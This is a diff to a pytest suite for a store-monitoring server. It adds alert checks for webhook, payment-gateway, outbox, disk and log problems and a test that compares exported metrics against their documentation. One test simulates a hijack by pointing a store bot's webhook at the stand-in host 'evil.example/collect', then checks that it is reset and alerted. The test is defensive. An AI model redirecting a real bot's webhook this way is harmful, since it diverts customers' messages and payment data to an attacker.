@@ -1,7 +1,10 @@
 """The server watches every store, and the machine it runs on."""
 
+import re
+
 import pytest
 from harness.bot_api import BotApi
+from harness.processes import ROOT
 from harness.store import product
 
 PAID = "🎉 Pembayaran Berhasil"
@@ -54,6 +57,22 @@ def webhook_of(world, store):
     return bot.get("webhook")
 
 
+def alert(world, kind, store="", subject=None):
+    """(detail, is it open) of the alert, the newest where there were several; None where there was none."""
+    rows = world.query("SELECT detail, recovered_at IS NULL FROM lapak.alerts WHERE kind = %s AND store = %s"
+                       " AND (%s::text IS NULL OR subject = %s) ORDER BY id DESC LIMIT 1", kind, store, subject, subject)
+    return rows[0] if rows else None
+
+
+def raised(world, kind, store="", subject=None):
+    world.until(lambda: (alert(world, kind, store, subject) or (0, False))[1], 30, f"an alert: {kind}")
+    return alert(world, kind, store, subject)[0]
+
+
+def recovered(world, kind, store="", subject=None):
+    world.until(lambda: not alert(world, kind, store, subject)[1], 40, f"the end of an alert: {kind}")
+
+
 def test_figures_follow_what_is_sold(world, kopi, budi):
     world.start()
     now = seen(world, kopi, lambda now: True)
@@ -79,6 +98,8 @@ def test_a_stolen_webhook_is_set_again(world, kopi):
     seen(world, kopi, lambda now: True)
     BotApi(world.sandbox, kopi.token).call("setWebhook", url="https://evil.example/collect")
     world.until(lambda: webhook_of(world, kopi) == ours, 3 * EVERY, "the webhook set again")
+    assert raised(world, "webhook", kopi.name) == "→ evil.example"
+    recovered(world, "webhook", kopi.name)
     world.person(2001, "Budi").start_chat(kopi)
 
 
@@ -99,8 +120,10 @@ def test_a_gateway_that_is_down(world, kopi):
     heal = world.fail("pakasir", "drop_before")
     world.start()
     seen(world, kopi, lambda now: now["gateway_ok"] is False)
+    raised(world, "gateway", subject="Pakasir")
     heal()
     seen(world, kopi, lambda now: now["gateway_ok"] is True, 60)
+    recovered(world, "gateway", subject="Pakasir")
 
 
 def test_what_waits_and_for_how_long(world, kopi, budi):
@@ -112,8 +135,10 @@ def test_what_waits_and_for_how_long(world, kopi, budi):
     world.until(lambda: kopi.query(f"{tried} RETURNING id"), 20, "a delivery that was tried in vain")
     now = seen(world, kopi, lambda now: now["outbox_late_seconds"] >= 600)
     assert now["outbox_waiting"] >= 1
+    assert int(raised(world, "outbox_late", kopi.name).split()[0]) >= 600
     heal()
     seen(world, kopi, lambda now: now["outbox_waiting"] == 0)
+    recovered(world, "outbox_late", kopi.name)
 
 
 def machine(world, name, **labels):
@@ -140,6 +165,51 @@ def test_the_machine(world, kopi):
     world.until(lambda: machine(world, "database_up") == 0, 20, "a look without the database")
     world.database_back()
     world.until(lambda: machine(world, "database_up") == 1, 20, "a look with it")
+
+
+def test_thresholds_of_the_machine(world, kopi):
+    world.config["watch"].update(disk=1, logs_mb=1)
+    big = world.log_directory / "kopi-digital" / "2026-01-01.log"
+    big.parent.mkdir(parents=True)
+    big.write_text("[2026-01-01T00:00:00.000Z] [info] a long line" + " very" * 500_000 + "\n")
+    world.start()
+    assert re.fullmatch(r"\d+ %", raised(world, "disk", subject="logs"))
+    assert raised(world, "logs") == "2 MB"
+    big.unlink()
+    recovered(world, "logs")
+    assert alert(world, "disk", subject="logs")[1]
+    world.config["watch"].update(disk=100)
+    world.restart()
+    recovered(world, "disk", subject="logs")
+
+
+ROW = re.compile(r"^\| `(\w+)` \| (counter|gauge|histogram) \|(.*?)\| (.+) \|$", re.M)
+SERIES = re.compile(r"_(bucket|sum|count)$")
+
+
+def test_every_metric_is_documented(world, kopi, budi):
+    """docs/metrics.md and /metrics, held against each other: names, types, labels."""
+    world.start()
+    world.pay(budi.order(kopi, "Kopi Susu"))
+    budi.wait_for(kopi, PAID)
+    seen(world, kopi, lambda now: now["orders"] == 1)
+    world.until(lambda: machine(world, "clock_offset_seconds", of="Pakasir") is not None, 20, "a look at the machine")
+    world.until(lambda: machine(world, "orders_today") == 1, 20, "the order in the sums")
+    page = world.metrics()
+    there = dict(re.findall(r"^# TYPE (\w+) (\w+)$", page.text, re.M))
+    text = (ROOT / "docs/metrics.md").read_text(encoding="utf-8")
+    documented = {name: (kind, set(re.findall(r"`(\w+)`", labels))) for name, kind, labels, _ in ROW.findall(text)}
+    assert {name: kind for name, (kind, _) in documented.items()} == there
+    for name, labels, _ in page.samples:
+        name = name if name in documented else SERIES.sub("", name)
+        assert set(labels) - {"le"} == documented[name][1], name
+    assert page.get("lapak_store_orders_today", store=kopi.name) == 1
+    assert page.get("lapak_revenue_today_rupiah") == page.get("lapak_store_revenue_today_rupiah") == 15_000
+    assert page.get("lapak_delivery_seconds_count") == 1
+    assert page.get("lapak_delivery_seconds_bucket", le="60") == 1
+    handled = page.get("lapak_updates_total", outcome="handled")
+    assert page.get("lapak_update_seconds_count") == page.get("lapak_update_handling_seconds_count") == handled
+    assert page.get("lapak_update_seconds_sum") >= page.get("lapak_update_handling_seconds_sum") > 0
 
 
 def test_many_stores_are_looked_at_one_after_the_other(world):
